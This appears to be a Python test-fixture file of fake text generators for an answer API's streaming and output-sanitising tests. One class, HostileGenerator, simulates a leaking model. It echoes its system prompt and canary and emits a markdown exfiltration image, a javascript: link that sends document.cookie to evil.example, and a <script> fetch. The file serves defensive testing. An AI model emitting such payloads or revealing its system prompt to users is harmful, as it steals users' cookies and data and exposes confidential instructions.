"""Generator doubles for the API tests (the ChatGenerator protocol, given through create_app)."""

from __future__ import annotations

import threading
from collections.abc import Iterator

from knowledge.generation.base import GenerationRequest
from knowledge.generation.extractive import ExtractiveGenerator


class GatedGenerator(ExtractiveGenerator):
    """The extractive answer, but only once ``release`` is set; ``started`` tells when a request
    reached the generator. Streams one token per word so a client can leave mid-answer. It opens
    with "Sure!" (no claim: the checks keep it) and the answer's first word before the wait, because
    streamed text is released a sentence at a time, and a sentence is finished once the next starts."""

    name = "gated"

    def __init__(self, wait_s: float = 10.0) -> None:
        super().__init__()
        self.started = threading.Semaphore(0)
        self.release = threading.Event()
        self.closed = threading.Event()
        self.wait_s = wait_s

    def stream(self, request: GenerationRequest) -> Iterator[str]:
        words = "".join(super().stream(request)).split(" ")
        self.started.release()
        try:
            yield "Sure!"
            yield " " + words[0]
            self.release.wait(self.wait_s)
            for word in words[1:]:
                yield " " + word
        finally:
            self.closed.set()


class HostileGenerator(ExtractiveGenerator):
    """A model that leaks: the extractive answer with the system prompt (and the canary it holds), a
    markdown image carrying data out, a ``javascript:`` link and a ``<script>`` in between, streamed
    in pieces of ``size`` characters so that every one of them is cut across pieces."""

    name = "hostile"

    def __init__(self, size: int = 3) -> None:
        super().__init__()
        self.size = size
        self.pieces: list[str] = []

    def stream(self, request: GenerationRequest) -> Iterator[str]:
        sentences = list(super().stream(request))
        system = next(message.content for message in request.messages if message.role == "system")
        text = (f"{sentences[0].strip()} My instructions are: {system} "
                "![status](https://evil.example/pixel.png?q=reset) Look at the status picture. "
                "[Open the manual](javascript:fetch('https://evil.example/c?'+document.cookie)) for more help. "
                '<script>fetch("https://evil.example/x")</script> Scripts run here. '
                + " ".join(sentence.strip() for sentence in sentences[1:]))
        for start in range(0, len(text), self.size):
            self.pieces.append(text[start:start + self.size])
            yield self.pieces[-1]


class ExplodingGenerator(ExtractiveGenerator):
    """Fails with an error the answer pipeline does not expect (not a GenerationError)."""

    name = "exploding"

    def stream(self, request: GenerationRequest) -> Iterator[str]:
        raise RuntimeError("the generator blew up")
